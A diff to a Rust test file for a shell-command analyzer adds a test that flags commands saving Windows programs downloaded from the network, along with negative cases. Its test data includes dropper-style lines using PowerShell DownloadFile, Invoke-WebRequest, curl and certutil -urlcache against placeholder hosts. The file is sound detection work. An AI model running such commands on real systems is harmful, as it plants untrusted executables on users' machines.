@@ -76,6 +76,36 @@ fn downloaded_files_made_executable_or_run() {
 }
 
 #[test]
+fn windows_programs_saved_from_the_network_are_the_payload() {
+    // Nothing here runs the file: saving a bare Windows program is the dropper's step.
+    for line in [
+        "powershell -Command \"(New-Object Net.WebClient).DownloadFile('http://payload.invalid/u.exe','u.exe')\"",
+        "powershell -c \"Invoke-WebRequest -Uri http://198.51.100.9/a -OutFile $env:TEMP\\svc.scr\"",
+        "curl -s -o C:/Users/Public/update.exe http://payload.invalid/update",
+        "certutil -urlcache -split -f http://payload.invalid/x C:\\Users\\Public\\x.dll",
+    ] {
+        let f = analyze_command(line);
+        assert!(
+            f.findings
+                .iter()
+                .any(|x| x.kind == K::DownloadExecute && x.detail.contains("Windows program")),
+            "{line}: {:?}",
+            details(&f)
+        );
+    }
+    // Archives, data and scripts saved are not programs; a name that only ends in the
+    // letters is not a program either.
+    for line in [
+        "powershell -c \"Invoke-WebRequest -Uri http://payload.invalid/tool.zip -OutFile tool.zip\"",
+        "curl -o setup.exe.sha256 http://payload.invalid/setup.exe.sha256",
+        "curl -o lib/msi http://payload.invalid/msi",
+        "wget -O .exe http://payload.invalid/x",
+    ] {
+        lacks(line, K::DownloadExecute);
+    }
+}
+
+#[test]
 fn downloads_that_are_not_run() {
     for line in [
         "curl -o x.tgz http://payload.invalid/x.tgz && tar xzf x.tgz",
